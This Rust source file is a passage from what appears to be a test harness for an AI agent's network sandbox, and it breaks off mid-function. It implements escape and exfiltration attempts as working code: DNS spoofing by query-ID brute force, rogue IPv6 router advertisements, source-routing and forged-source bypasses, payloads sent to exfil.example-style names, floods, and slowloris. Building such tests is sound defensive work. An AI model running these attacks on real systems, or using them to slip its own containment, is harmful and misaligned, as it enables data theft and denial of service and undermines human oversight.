//! `sbx-fwbed attack KIND ...`: what an agent tries from inside the
//! sandbox, run by the tests as uid 1000 without capabilities. Each prints
//! one JSON line saying what the kernel let it do; whether anything got out
//! is counted on the far side by the test.

use std::io::{Read, Write};
use std::net::{IpAddr, SocketAddr, TcpStream, UdpSocket};
use std::os::fd::AsFd;
use std::time::{Duration, Instant};

use hickory_proto::op::{Message, MessageType, OpCode, Query};
use hickory_proto::rr::{Name, RecordType};
use nix::sys::socket::{
    AddressFamily, SockFlag, SockType, SockaddrStorage, bind, connect, sendto, setsockopt, socket,
    sockopt,
};
use serde_json::json;

pub fn main(args: &[String]) -> i32 {
    let arg = |i: usize| args.get(i).map(String::as_str).unwrap_or("");
    let out = match arg(0) {
        "hijack" => hijack(arg(1).parse().expect("RESOLVER:PORT")),
        "forge" => forge(
            arg(1).parse().expect("SRC"),
            arg(2).parse().expect("DST:PORT"),
            arg(3) == "transparent",
        ),
        "rthdr" => rthdr(
            arg(1).parse().expect("TYPE"),
            arg(2).parse().expect("FIRST-HOP"),
            arg(3).parse().expect("FINAL:PORT"),
        ),
        "srr" => srr(
            arg(1).parse().expect("FIRST-HOP"),
            arg(2).parse().expect("FINAL:PORT"),
            arg(3),
        ),
        "refusedflood" => refusedflood(
            arg(1).parse().expect("SERVER:PORT"),
            arg(2).parse().expect("N"),
        ),
        "tcpdribble" => tcpdribble(
            arg(1).parse().expect("SERVER:PORT"),
            arg(2).parse().expect("N"),
            arg(3).parse().expect("SECS"),
        ),
        "spoofdns" => spoofdns(
            arg(1).parse().expect("UPSTREAM"),
            arg(2).parse().expect("VICTIM:PORT"),
            arg(3),
            arg(4).parse().expect("FORGED-IP"),
            arg(5).parse().expect("SECS"),
        ),
        "dnsraw" => dnsraw(arg(1).parse().expect("SERVER:PORT"), &args[2..]),
        "outs" => outs(&args[1..]),
        "ra" => ra(arg(1), arg(2).parse().expect("PREFIX")),
        "dnsloop" => dnsloop(
            arg(1).parse().expect("SERVER:PORT"),
            arg(2),
            arg(3).parse().expect("THREADS"),
        ),
        "tcpflood" => tcpflood(
            arg(1).parse().expect("SERVER:PORT"),
            arg(2).parse().expect("N"),
            arg(3).parse().expect("FILTER-PID"),
        ),
        "tls" => tls(arg(1), arg(2), arg(3)),
        "http" => http(arg(1), arg(2)),
        "raw" => raw(arg(1), &args[2..]),
        "tlsmany" => tlsmany(arg(1), arg(2), arg(3).parse().expect("N")),
        "holdhttp" => holdhttp(arg(1), arg(2), arg(3).parse().expect("SECS")),
        "idle" => idle(arg(1), arg(2), arg(3).parse().expect("SECS")),
        "slowloris" => slowloris(
            arg(1).parse().expect("ADDR:PORT"),
            arg(2).parse().expect("N"),
            arg(3).parse().expect("SECS"),
        ),
        k => {
            eprintln!("unknown attack {k:?}");
            return 64;
        }
    };
    println!("{out}");
    0
}

/// A DNS query for `name`, wire format.
pub fn query(name: &str, t: RecordType) -> Vec<u8> {
    let mut m = Message::new(0x4242, MessageType::Query, OpCode::Query);
    m.metadata.recursion_desired = true;
    m.add_query(Query::query(Name::from_ascii(name).expect("name"), t));
    m.to_vec().expect("encode")
}

fn ephemeral_ports() -> (u16, u16) {
    let r = std::fs::read_to_string("/proc/sys/net/ipv4/ip_local_port_range").unwrap_or_default();
    let mut it = r.split_whitespace().filter_map(|p| p.parse().ok());
    (it.next().unwrap_or(32768), it.next().unwrap_or(60999))
}

/// Ride a connection conntrack still holds for a root socket: bind every
/// free ephemeral port and send a query (naming the port) to the resolver.
fn hijack(resolver: SocketAddr) -> serde_json::Value {
    let (lo, hi) = ephemeral_ports();
    let (mut bound, mut sent, mut in_use) = (0u32, 0u32, 0u32);
    for port in lo..=hi {
        let Ok(s) = UdpSocket::bind(("0.0.0.0", port)) else {
            in_use += 1;
            continue;
        };
        bound += 1;
        let q = query(&format!("p{port}.hijack.tunnel.test"), RecordType::TXT);
        if s.send_to(&q, resolver).is_ok() {
            sent += 1;
        }
    }
    // A second pass: a refused first send may only show on the second.
    std::thread::sleep(Duration::from_millis(200));
    json!({"ports": hi - lo + 1, "bound": bound, "in_use": in_use, "sent": sent})
}

fn family(a: &IpAddr) -> AddressFamily {
    if a.is_ipv6() {
        AddressFamily::Inet6
    } else {
        AddressFamily::Inet
    }
}

fn errno(r: nix::Result<()>) -> String {
    match r {
        Ok(()) => "ok".into(),
        Err(e) => e.desc().to_owned(),
    }
}

/// Send from an address this host does not own (FREEBIND needs no
/// privilege; TRANSPARENT needs CAP_NET_ADMIN, so only root tries it), by
/// TCP (a SYN) and by UDP.
fn forge(src: IpAddr, dst: SocketAddr, transparent: bool) -> serde_json::Value {
    let mut out = serde_json::Map::new();
    for (proto, ty) in [("tcp", SockType::Stream), ("udp", SockType::Datagram)] {
        let fd = socket(family(&src), ty, SockFlag::SOCK_NONBLOCK, None).expect("socket");
        let opt = if transparent {
            errno(setsockopt(&fd, sockopt::IpTransparent, &true))
        } else if src.is_ipv6() {
            match sbx_sys::setsockopt_bytes(
                fd.as_fd(),
                nix::libc::IPPROTO_IPV6,
                nix::libc::IPV6_FREEBIND,
                &1i32.to_ne_bytes(),
            ) {
                Ok(()) => "ok".into(),
                Err(e) => e.to_string(),
            }
        } else {
            errno(setsockopt(&fd, sockopt::IpFreebind, &true))
        };
        let b = errno(bind(
            std::os::fd::AsRawFd::as_raw_fd(&fd),
            &SockaddrStorage::from(SocketAddr::new(src, 0)),
        ));
        let to = SockaddrStorage::from(dst);
        let send = if proto == "tcp" {
            errno(connect(std::os::fd::AsRawFd::as_raw_fd(&fd), &to))
        } else {
            errno(
                sendto(
                    std::os::fd::AsRawFd::as_raw_fd(&fd),
                    b"forged",
                    &to,
                    nix::sys::socket::MsgFlags::empty(),
                )
                .map(drop),
            )
        };
        // Let a SYN retransmit once before the socket goes.
        std::thread::sleep(Duration::from_millis(300));
        out.insert(proto.into(), json!({"opt": opt, "bind": b, "send": send}));
    }
    serde_json::Value::Object(out)
}

/// A routing header set on an ordinary TCP socket (no privilege needed for
/// types 2 and 4): the packet is addressed to `first`, an allowed host,
/// and carries `last` as the final destination.
fn rthdr(kind: u8, first: std::net::Ipv6Addr, last: SocketAddr) -> serde_json::Value {
    let mut h: Vec<u8> = match kind {
        // Segment routing header: segments[1] is the first hop, segments[0]
        // is filled with the connect address by the kernel.
        4 => vec![6, 4, 4, 1, 1, 0, 0, 0],
        // Type 2 (Mobile IPv6) and type 0: one address.
        k => vec![6, 2, k, 1, 0, 0, 0, 0],
    };
    if kind == 4 {
        h.extend_from_slice(&[0; 16]);
    }
    h.extend_from_slice(&first.octets());
    let fd = socket(
        AddressFamily::Inet6,
        SockType::Stream,
        SockFlag::SOCK_NONBLOCK,
        None,
    )
    .expect("socket");
    let opt = match sbx_sys::setsockopt_bytes(
        fd.as_fd(),
        nix::libc::IPPROTO_IPV6,
        nix::libc::IPV6_RTHDR,
        &h,
    ) {
        Ok(()) => "ok".to_owned(),
        Err(e) => e.to_string(),
    };
    let c = errno(connect(
        std::os::fd::AsRawFd::as_raw_fd(&fd),
        &SockaddrStorage::from(last),
    ));
    std::thread::sleep(Duration::from_millis(300));
    json!({"type": kind, "opt": opt, "connect": c})
}

/// IPv4's routing header: a loose source route option (IP_OPTIONS needs no
/// privilege). The packet is addressed to `first`, an allowed host, and
/// carries `last` as the final destination. With TCP Fast Open and no
/// cookie (both settable without privilege) the SYN itself carries
/// `payload`, so the data leaves even though no handshake can complete.
fn srr(first: std::net::Ipv4Addr, last: SocketAddr, payload: &str) -> serde_json::Value {
    // NOP, LSRR, length 7, pointer 4, one slot: the kernel takes the first
    // hop from it and writes the connect address in as the last hop.
    let mut o = vec![1u8, 131, 7, 4];
    o.extend_from_slice(&first.octets());
    let fd = socket(
        AddressFamily::Inet,
        SockType::Stream,
        SockFlag::SOCK_NONBLOCK,
        None,
    )
    .expect("socket");
    let set = |level, name, v: &[u8]| match sbx_sys::setsockopt_bytes(fd.as_fd(), level, name, v) {
        Ok(()) => "ok".to_owned(),
        Err(e) => e.to_string(),
    };
    let opt = set(nix::libc::IPPROTO_IP, nix::libc::IP_OPTIONS, &o);
    // TCP_FASTOPEN_CONNECT (30), TCP_FASTOPEN_NO_COOKIE (34).
    let tfo = set(nix::libc::IPPROTO_TCP, 30, &1i32.to_ne_bytes())
        + "/"
        + &set(nix::libc::IPPROTO_TCP, 34, &1i32.to_ne_bytes());
    let c = errno(connect(
        std::os::fd::AsRawFd::as_raw_fd(&fd),
        &SockaddrStorage::from(last),
    ));
    let mut stream = TcpStream::from(fd);
    let w = if payload.is_empty() {
        "none".to_owned()
    } else {
        match stream.write(payload.as_bytes()) {
            Ok(n) => format!("{n}"),
            Err(e) => e.to_string(),
        }
    };
    std::thread::sleep(Duration::from_millis(1200));
    json!({"opt": opt, "tfo": tfo, "connect": c, "write": w})
}

/// `n` queries for distinct names that are not on the allowlist, as fast as
/// the filter answers; each refusal may write an audit record.
fn refusedflood(server: SocketAddr, n: usize) -> serde_json::Value {
    let s = UdpSocket::bind("0.0.0.0:0").expect("bind");
    s.set_read_timeout(Some(Duration::from_millis(500)))
        .expect("timeout");
    let t = Instant::now();
    let (mut answered, mut buf) = (0u64, [0u8; 1024]);
    let pad = "x".repeat(40);
    for i in 0..n {
        let q = query(&format!("f{i}{pad}.exfil.example."), RecordType::A);
        let _ = s.send_to(&q, server);
        if s.recv(&mut buf).is_ok() {
            answered += 1;
        }
    }
    json!({"sent": n, "answered": answered, "secs": t.elapsed().as_secs_f64()})
}

/// Slow clients: `n` TCP connections that each announce a long frame and
/// send one more byte of it every 3 s (under the filter's idle timeout),
/// for `secs`; then an honest client asks over TCP.
fn tcpdribble(server: SocketAddr, n: usize, secs: u64) -> serde_json::Value {
    let mut conns: Vec<TcpStream> = (0..n)
        .filter_map(|_| TcpStream::connect_timeout(&server, Duration::from_secs(2)).ok())
        .collect();
    for s in &mut conns {
        let _ = s.write_all(&[0x01]);
    }
    let t = Instant::now();
    while t.elapsed() < Duration::from_secs(secs) {
        std::thread::sleep(Duration::from_secs(3));
        for s in &mut conns {
            let _ = s.write_all(&[0x00]);
        }
    }
    let held = conns
        .iter()
        .filter(|s| {
            let mut s: &TcpStream = s;
            s.write_all(&[0]).is_ok()
        })
        .count();
    let q = query("allowed.test", RecordType::A);
    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&q);
    let honest = TcpStream::connect_timeout(&server, Duration::from_secs(2)).and_then(|mut s| {
        s.set_read_timeout(Some(Duration::from_secs(3)))?;
        s.write_all(&framed)?;
        let mut len = [0u8; 2];
        s.read_exact(&mut len)?;
        Ok(u16::from_be_bytes(len))
    });
    json!({"opened": n, "held": held, "honest": match honest {
        Ok(len) => format!("answered ({len} bytes)"),
        Err(e) => e.to_string(),
    }})
}

/// The outside accomplice (root, off the path, able to forge its source):
/// answers for `name` with `forged`, from the upstream resolver's address
/// and port to the DNS filter's upstream socket, cycling through all 65536
/// query ids for `secs`. The filter's socket, and so its port, lives as
/// long as the filter; the agent reads it from /proc/net/udp.
fn spoofdns(
    upstream: std::net::Ipv4Addr,
    victim: SocketAddr,
    name: &str,
    forged: std::net::Ipv4Addr,
    secs: u64,
) -> serde_json::Value {
    let fd = socket(
        AddressFamily::Inet,
        SockType::Datagram,
        SockFlag::empty(),
        None,
    )
    .expect("socket");
    setsockopt(&fd, sockopt::IpTransparent, &true).expect("IP_TRANSPARENT (run as root)");
    bind(
        std::os::fd::AsRawFd::as_raw_fd(&fd),
        &SockaddrStorage::from(SocketAddr::new(upstream.into(), 53)),
    )
    .expect("bind");
    let s = UdpSocket::from(fd);
    let mut m = Message::new(0, MessageType::Response, OpCode::Query);
    m.metadata.recursion_desired = true;
    m.metadata.recursion_available = true;
    let n = Name::from_ascii(format!("{name}.")).expect("name");
    m.add_query(Query::query(n.clone(), RecordType::A));
    m.add_answer(hickory_proto::rr::Record::from_rdata(
        n,
        300,
        hickory_proto::rr::RData::A(forged.into()),
    ));
    let mut pkt = m.to_vec().expect("encode");
    let t = Instant::now();
    let mut sent = 0u64;
    while t.elapsed() < Duration::from_secs(secs) {
        for id in 0..=u16::MAX {
            pkt[..2].copy_from_slice(&id.to_be_bytes());
            if s.send_to(&pkt, victim).is_ok() {
                sent += 1;
            }
        }
    }
    json!({"sent": sent})
}

/// Datagrams no TCP rule names, each carrying a payload: ICMP echo
/// requests through unprivileged ping sockets (Docker opens
/// `ping_group_range` to every group), UDP to broadcast and multicast
/// addresses with SO_BROADCAST, and UDP with the largest hop limit. Each
/// target is `echo:ADDR` or `udp:ADDR:PORT`; what the kernel said for each.
fn outs(targets: &[String]) -> serde_json::Value {
    use nix::sys::socket::{SockProtocol, SockaddrIn, SockaddrIn6};
    let mut out = serde_json::Map::new();
    for t in targets {
        let said = (|| -> Result<(), String> {
            let (kind, rest) = t.split_once(':').ok_or("KIND:ADDR")?;
            let dst: SocketAddr = match kind {
                "echo" => SocketAddr::new(rest.parse().map_err(|_| "address")?, 0),
                _ => rest.parse().map_err(|_| "address:port")?,
            };
            let (fam, proto, body): (_, _, &[u8]) = match (kind, dst.is_ipv4()) {
                ("echo", true) => (
                    AddressFamily::Inet,
                    Some(SockProtocol::Icmp),
                    &[8, 0, 0, 0, 0, 1, 0, 1],
                ),
                ("echo", false) => (
                    AddressFamily::Inet6,
                    Some(SockProtocol::IcmpV6),
                    &[128, 0, 0, 0, 0, 1, 0, 1],
                ),
                (_, true) => (AddressFamily::Inet, None, &[]),
                (_, false) => (AddressFamily::Inet6, None, &[]),
            };
            let fd = socket(fam, SockType::Datagram, SockFlag::empty(), proto)
                .map_err(|e| format!("socket: {e}"))?;
            let mut p = body.to_vec();
            p.extend_from_slice(b"EXFIL-PAYLOAD");
            if dst.is_ipv4() {
                let _ = setsockopt(&fd, sockopt::Broadcast, &true);
                let _ = setsockopt(&fd, sockopt::Ipv4Ttl, &255);
            } else {
                let _ = setsockopt(&fd, sockopt::Ipv6MulticastHops, &255);
                let _ = setsockopt(&fd, sockopt::Ipv6Ttl, &255);
            }
            let raw = std::os::fd::AsRawFd::as_raw_fd(&fd);
            let flags = nix::sys::socket::MsgFlags::empty();
            let r = match dst {
                SocketAddr::V4(a) => sendto(raw, &p, &SockaddrIn::from(a), flags),
                SocketAddr::V6(a) => sendto(raw, &p, &SockaddrIn6::from(a), flags),
            };
            r.map(|_| ()).map_err(|e| format!("send: {e}"))
        })();
        out.insert(
            t.clone(),
            json!(said.map_or_else(|e| e, |()| "sent".to_owned())),
        );
    }
    serde_json::Value::Object(out)
}

/// A root neighbour's router advertisement on `dev`, to every node: no
/// default route (lifetime 0), but `prefix`/64 on-link, so traffic to it
/// goes to whoever answers neighbour solicitations for it on the link.
fn ra(dev: &str, prefix: std::net::Ipv6Addr) -> serde_json::Value {
    use nix::sys::socket::{
        AddressFamily, SockFlag, SockProtocol, SockType, SockaddrIn6, sendto, setsockopt, socket,
        sockopt,
    };
    let fd = socket(
        AddressFamily::Inet6,
        SockType::Raw,
        SockFlag::empty(),
        SockProtocol::IcmpV6,
    )
    .expect("raw icmpv6 socket");
    setsockopt(&fd, sockopt::Ipv6MulticastHops, &255).expect("hops");
    // Type 134, code 0, checksum (the kernel's), hop limit 64, no flags,
    // router lifetime 0, reachable and retrans timers 0.
    let mut p = vec![134, 0, 0, 0, 64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
    // Prefix information: /64, on-link (L), not autonomous, valid and
    // preferred an hour, the prefix.
    p.extend_from_slice(&[3, 4, 64, 0x80]);
    p.extend_from_slice(&3600u32.to_be_bytes());
    p.extend_from_slice(&3600u32.to_be_bytes());
    p.extend_from_slice(&[0; 4]);
    p.extend_from_slice(&prefix.octets());
    let scope: u32 = std::fs::read_to_string(format!("/sys/class/net/{dev}/ifindex"))
        .expect("ifindex")
        .trim()
        .parse()
        .expect("ifindex");
    let to = SockaddrIn6::from(std::net::SocketAddrV6::new(
        "ff02::1".parse().expect("all nodes"),
        0,
        0,
        scope,
    ));
    let mut sent = 0;
    for _ in 0..3 {
        let raw = std::os::fd::AsRawFd::as_raw_fd(&fd);
        if sendto(raw, &p, &to, nix::sys::socket::MsgFlags::empty()).is_ok() {
            sent += 1;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    json!({"sent": sent})
}

/// Queries for `name` from `threads` sockets, each asking again as soon
/// as it has an answer (or after 1 s without), until stdin closes: a
/// flood that keeps answers for `name` in flight whatever the policy does.
/// Each line on stdin is a barrier: `answered` comes back once every
/// query in flight when it was read has its answer (the filter adds an
/// address to the set before it answers), so the caller need not sleep.
fn dnsloop(server: SocketAddr, name: &str, threads: usize) -> serde_json::Value {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
    let stop = Arc::new(AtomicBool::new(false));
    let done: Arc<Vec<AtomicU64>> = Arc::new((0..threads).map(|_| AtomicU64::new(0)).collect());
    let workers: Vec<_> = (0..threads)
        .map(|i| {
            let (stop, done, q) = (stop.clone(), done.clone(), query(name, RecordType::A));
            std::thread::spawn(move || {
                let s = UdpSocket::bind("0.0.0.0:0").expect("bind");
                s.set_read_timeout(Some(Duration::from_secs(1)))
                    .expect("timeout");
                let mut buf = [0u8; 1500];
                while !stop.load(Relaxed) {
                    let _ = s.send_to(&q, server);
                    let _ = s.recv(&mut buf);
                    done[i].fetch_add(1, Relaxed);
                }
            })
        })
        .collect();
    println!("started");
    let _ = std::io::stdout().flush();
    for line in std::io::stdin().lines() {
        if line.is_err() {
            break;
        }
        // The query in flight now is the one after the last done.
        let seen: Vec<u64> = done.iter().map(|d| d.load(Relaxed)).collect();
        let t0 = Instant::now();
        while done.iter().zip(&seen).any(|(d, s)| d.load(Relaxed) <= *s)
            && t0.elapsed() < Duration::from_secs(5)
        {
            std::thread::sleep(Duration::from_micros(200));
        }
        println!("answered");
        let _ = std::io::stdout().flush();
    }
    stop.store(true, Relaxed);
    for w in workers {
        let _ = w.join();
    }
    json!({"sent": done.iter().map(|d| d.load(Relaxed)).sum::<u64>()})
}

/// Send each hex-encoded packet over UDP; report the reply's rcode.
fn dnsraw(server: SocketAddr, packets: &[String]) -> serde_json::Value {
    let s = UdpSocket::bind("0.0.0.0:0").expect("bind");
    s.set_read_timeout(Some(Duration::from_millis(1500)))
        .expect("timeout");
    let mut replies = Vec::new();
    for p in packets {
        let bytes: Vec<u8> = (0..p.len() / 2)
            .map(|i| u8::from_str_radix(&p[2 * i..2 * i + 2], 16).expect("hex"))
            .collect();
        let _ = s.send_to(&bytes, server);
        let mut buf = [0u8; 4096];
        replies.push(match s.recv(&mut buf) {
            Ok(n) => match Message::from_vec(&buf[..n]) {
                Ok(m) => json!({"rcode": m.metadata.response_code.to_string(), "answers": m.answers.len(), "len": n}),
                Err(_) => json!({"rcode": "unparsable", "len": n}),
            },
            Err(_) => json!({"rcode": "none"}),
        });
    }
    json!(replies)
}

fn threads(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("Threads:"))
                .and_then(|n| n.trim().parse().ok())
        })
        .unwrap_or(0)
}

/// Hold `n` TCP connections to the filter, each with a query sent, and
/// see whether a UDP query is still answered and how many threads the
/// filter runs meanwhile.
fn tcpflood(server: SocketAddr, n: usize, pid: u32) -> serde_json::Value {
    let _ = nix::sys::resource::setrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE, 4096, 4096);
    let mut framed = Vec::new();
    let q = query("allowed.test", RecordType::A);
    framed.extend_from_slice(&(q.len() as u16).to_be_bytes());
    framed.extend_from_slice(&q);
    let mut conns = Vec::new();
    let mut connect_failed = 0;
    for _ in 0..n {
        match TcpStream::connect_timeout(&server, Duration::from_secs(2)) {
            Ok(s) => {
                // Half a frame: the connection stays busy waiting for the rest.
                let _ = s.set_nodelay(true);
                let _ = (&s).write_all(&framed[..1]);
                conns.push(s);
            }
            Err(_) => connect_failed += 1,
        }
    }
    std::thread::sleep(Duration::from_millis(500));
    let peak_threads = threads(pid);
    // Still responsive over UDP, and over a fresh TCP connection it answers
    // or closes at once rather than hanging.
    let udp = UdpSocket::bind("0.0.0.0:0").expect("bind");
    udp.set_read_timeout(Some(Duration::from_secs(2)))
        .expect("timeout");
    let t = Instant::now();
    let _ = udp.send_to(&q, server);
    let mut buf = [0u8; 2048];
    let udp_answer = udp.recv(&mut buf).is_ok();
    let udp_ms = t.elapsed().as_secs_f64() * 1e3;
    // Finish the frames: served connections answer, refused ones are closed.
    let (mut answered, mut closed, mut silent) = (0, 0, 0);
    for s in &mut conns {
        let _ = s.write_all(&framed[1..]);
    }
    for s in &mut conns {
        let _ = s.set_read_timeout(Some(Duration::from_millis(50)));
        let mut len = [0u8; 2];
        match s.read(&mut len) {
            Ok(0) => closed += 1,
            Ok(_) => answered += 1,
            Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => closed += 1,
            Err(_) => silent += 1,
        }
    }
    json!({"connected": conns.len(), "connect_failed": connect_failed, "peak_threads": peak_threads,
           "udp_answer": udp_answer, "udp_ms": udp_ms, "answered": answered, "closed": closed, "silent": silent})
}

/// `HOST:PORT` through resolv.conf (the DNS filter) or as an address.
fn dial(target: &str) -> std::io::Result<TcpStream> {
    use std::net::ToSocketAddrs;
    let addr = target
        .to_socket_addrs()?
        .next()
        .ok_or_else(|| std::io::Error::other("no address"))?;
    let c = TcpStream::connect_timeout(&addr, Duration::from_secs(3))?;
    c.set_read_timeout(Some(Duration::from_secs(3)))?;
    Ok(c)
}

/// Whether the far side answered: any bytes back (ServerHello, alert,
/// echo). A reset or a close with nothing is a refusal.
fn answered(c: &mut TcpStream) -> Result<u8, String> {
    let mut b = [0u8; 1];
    match c.read(&mut b) {
        Ok(1) => Ok(b[0]),
        Ok(_) => Err("closed".into()),
        Err(e) => Err(e.kind().to_string()),
    }
}

/// A ClientHello naming SNI (`-`: none) to HOST:PORT, directly or through
/// an explicit proxy's CONNECT; `pipe:PROXY` sends the CONNECT and the
/// hello in one write, before the proxy's answer (as some clients do).
fn tls(target: &str, sni: &str, proxy: &str) -> serde_json::Value {
    let sni = (sni != "-").then_some(sni);
    let hello = sbx_fw::proxy::sni::client_hello(sni);
    let (proxy, pipelined) = match proxy.strip_prefix("pipe:") {
        Some(p) => (p, true),
        None => (proxy, false),
    };
    let run = || -> Result<u8, String> {
        let mut c = if proxy.is_empty() {
            dial(target).map_err(|e| e.to_string())?
        } else {
            let mut c = dial(proxy).map_err(|e| e.to_string())?;
            let mut req =
                format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").into_bytes();
            if pipelined {
                req.extend_from_slice(&hello);
            }
            c.write_all(&req).map_err(|e| e.to_string())?;
            let mut head = Vec::new();
            let mut b = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n") {
                match c.read(&mut b) {
                    Ok(1) => head.push(b[0]),
                    _ => return Err(format!("proxy: {}", String::from_utf8_lossy(&head))),
                }
            }
            let head = String::from_utf8_lossy(&head).into_owned();
            if !head.starts_with("HTTP/1.1 200") {
                return Err(format!("proxy: {}", head.lines().next().unwrap_or("")));
            }
            c
        };
        if !pipelined {
            c.write_all(&hello).map_err(|e| e.to_string())?;
        }
        answered(&mut c)
    };
    match run() {
        Ok(b) => json!({"reached": true, "first": b}),
        Err(e) => json!({"reached": false, "error": e}),
    }
}

/// An HTTP request with Host HOST to TARGET (the far side echoes it).
fn http(target: &str, host: &str) -> serde_json::Value {
    let run = || -> Result<u8, String> {
        let mut c = dial(target).map_err(|e| e.to_string())?;
        write!(c, "GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").map_err(|e| e.to_string())?;
        answered(&mut c)
    };
    match run() {
        Ok(b) => json!({"reached": true, "first": b}),
        Err(e) => json!({"reached": false, "error": e}),
    }
}

/// N connections open at once, each sending its hello before any reads.
fn tlsmany(target: &str, sni: &str, n: usize) -> serde_json::Value {
    use nix::sys::resource::{Resource, getrlimit, setrlimit};
    if let Ok((_, hard)) = getrlimit(Resource::RLIMIT_NOFILE) {
        let _ = setrlimit(Resource::RLIMIT_NOFILE, hard, hard);
    }
    let hello = sbx_fw::proxy::sni::client_hello(Some(sni));
    let t0 = Instant::now();
    let mut conns = Vec::new();
    let mut failed = 0;
    for _ in 0..n {
        match dial(target).and_then(|mut c| c.write_all(&hello).map(|()| c)) {
            Ok(c) => conns.push(c),
            Err(_) => failed += 1,
        }
    }
    let open_at_once = conns.len();
    let reached = conns
        .iter_mut()
        .map(|c| {
            let _ = c.set_read_timeout(Some(Duration::from_secs(10)));
            answered(c).is_ok()
        })
        .filter(|ok| *ok)
        .count();
    json!({"reached": reached, "failed": failed, "open_at_once": open_at_once,
           "ms": t0.elapsed().as_millis()})
}

/// N connections that dribble a ClientHello a byte a second for SECS:
/// how many the far side cut before SECS, and how soon.
fn slowloris(target: SocketAddr, n: usize, secs: u64) -> serde_json::Value {
    let hello = sbx_fw::proxy::sni::client_hello(Some("allowed.test"));
    let mut conns: Vec<Option<TcpStream>> = (0..n)
        .map(|_| TcpStream::connect_timeout(&target, Duration::from_secs(3)).ok())
        .collect();
    let t0 = Instant::now();
    let mut cut_after = Vec::new();
    let mut i = 0;
    while t0.elapsed() < Duration::from_secs(secs) {
        for c in conns.iter_mut() {
            let gone = match c {
                Some(s) => {
                    s.write_all(&hello[i % hello.len()..][..1]).is_err()
                        || {
                            let _ = s.set_nonblocking(true);
                            let mut b = [0u8; 1];
                            let r = matches!(s.read(&mut b), Ok(0))
                                || matches!(s.read(&mut b), Err(ref e) if e.kind() != std::io::ErrorKind::WouldBlock);
                            let _ = s.set_nonblocking(false);
                            r
                        }
                }
                None => false,
            };
            if gone {
                *c = None;
                cut_after.push(t0.elapsed().as_millis());
            }
        }
        i += 1;
        std::thread::sleep(Duration::from_secs(1));
    }
    json!({"cut": cut_after.len(), "max_ms": cut_after.iter().max()})
}

/// A transfer kept going for SECS: a request with Host HOST, then a ping
/// (part of its body) echoed every 100 ms. Prints "open" once the first answer came.
/// One exchange (port 443: a ClientHello and the server's first bytes;
/// otherwise a request head, echoed by the far side), then silence: when,
/// if within `secs`, is the connection closed?
fn idle(target: &str, host: &str, secs: u64) -> serde_json::Value {
    let run = || -> Result<Option<u128>, String> {
        let mut c = dial(target).map_err(|e| e.to_string())?;
        let first = if target.ends_with(":443") {
            sbx_fw::proxy::sni::client_hello(Some(host))
        } else {
            format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000\r\n\r\n").into_bytes()
        };
        c.write_all(&first).map_err(|e| e.to_string())?;
        let mut b = [0u8; 5];
        c.read_exact(&mut b).map_err(|e| e.to_string())?;
        let t0 = Instant::now();
        c.set_read_timeout(Some(Duration::from_secs(secs)))
            .map_err(|e| e.to_string())?;
        let mut rest = [0u8; 4096];
        loop {
            match c.read(&mut rest) {
                Ok(0) => return Ok(Some(t0.elapsed().as_millis())),
                Ok(_) => {}
                Err(e)
                    if matches!(
                        e.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) =>
                {
                    return Ok(None);
                }
                Err(_) => return Ok(Some(t0.elapsed().as_millis())),
            }
        }
    };
    match run() {
        Ok(ms) => json!({"opened": true, "closed_ms": ms}),
        Err(e) => json!({"opened": false, "error": e}),
    }
}

fn holdhttp(target: &str, host: &str, secs: u64) -> serde_json::Value {
    let run = || -> Result<u64, String> {
        let mut c = dial(target).map_err(|e| e.to_string())?;
        // The pings are the request's body: bytes after a head without one
        // would be the next request's, which the proxy holds until whole.
        let req = format!("POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000\r\n\r\n");
        c.write_all(req.as_bytes()).map_err(|e| e.to_string())?;
        let mut b = vec![0u8; req.len()];
        c.read_exact(&mut b).map_err(|e| e.to_string())?;
        println!("open");
        let _ = std::io::stdout().flush();
        let t0 = Instant::now();
        let mut pings = 0;
        while t0.elapsed() < Duration::from_secs(secs) {
            c.write_all(b"ping")
                .map_err(|e| format!("after {pings}: {e}"))?;
            let mut p = [0u8; 4];
            c.read_exact(&mut p)
                .map_err(|e| format!("after {pings}: {e}"))?;
            pings += 1;
            std::thread::sleep(Duration::from_millis(100));
        }
        Ok(pings)
    };
    match run() {
        Ok(n) => json!({"alive": true, "pings": n}),
        Err(e) => json!({"alive": false, "error": e}),
    }
}

/// `\r`, `\n`, `\t`, `\\` and `\xHH` in a command-line argument.
fn unescape(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' && i + 1 < b.len() {
            match b[i + 1] {
                b'r' => out.push(b'\r'),
                b'n' => out.push(b'\n'),
                b't' => out.push(b'\t'),
                b'x' if i + 3 < b.len() => {
                    let h = std::str::from_utf8(&b[i + 2..i + 4]).unwrap_or("zz");
                    out.push(u8::from_str_radix(h, 16).expect("\\xHH"));
                    i += 4;
                    continue;
                }
                c => out.push(c),
            }
            i += 2;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    out
}

/// CHUNKS (escaped, see [`unescape`]; `@hello:NAME` is a ClientHello) to
/// TARGET, one write each 100 ms apart, then whatever comes back within
/// 2 s: the far side echoes on port 80, so `echo` shows what it received.
fn raw(target: &str, chunks: &[String]) -> serde_json::Value {
    let run = || -> Result<Vec<u8>, String> {
        let mut c = dial(target).map_err(|e| e.to_string())?;
        c.set_read_timeout(Some(Duration::from_secs(2)))
            .map_err(|e| e.to_string())?;
        for ch in chunks {
            let bytes = match ch.strip_prefix("@hello:") {
                Some(n) => {
                    let n = String::from_utf8_lossy(&unescape(n)).into_owned();
                    sbx_fw::proxy::sni::client_hello(Some(&n))
                }
                None => unescape(ch),
            };
